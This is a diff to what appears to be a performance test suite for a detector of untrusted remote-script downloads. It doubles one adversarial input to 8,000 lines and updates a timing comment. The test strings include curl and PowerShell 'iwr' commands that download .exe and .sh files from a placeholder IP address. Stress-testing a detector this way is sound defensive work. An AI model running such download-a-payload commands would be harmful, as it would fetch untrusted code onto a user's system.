@@ -146,8 +146,8 @@ describe('untrusted-remote-script', () => {
       'curl -o a.exe http://192.0.2.7/a.exe\n' + 'exec('.repeat(100_000),
       'curl -o a.exe http://192.0.2.7/a.exe\n' + '('.repeat(200_000),
       'curl -o x.sh http://192.0.2.7/x.sh\n' + '-sh '.repeat(100_000),
-      // A paragraph of downloads of different names (each searched its rest of the paragraph: 2.8 s).
-      Array.from({ length: 4000 }, (_, i) => `iwr http://192.0.2.7/a${i}.exe -OutFile a${i}.exe`).join('\n'),
+      // A paragraph of downloads of different names (each searched its rest of the paragraph: 2.8 s for 4,000, quadratic).
+      Array.from({ length: 8000 }, (_, i) => `iwr http://192.0.2.7/a${i}.exe -OutFile a${i}.exe`).join('\n'),
     ];
     for (const text of lines) {
       const t0 = performance.now();
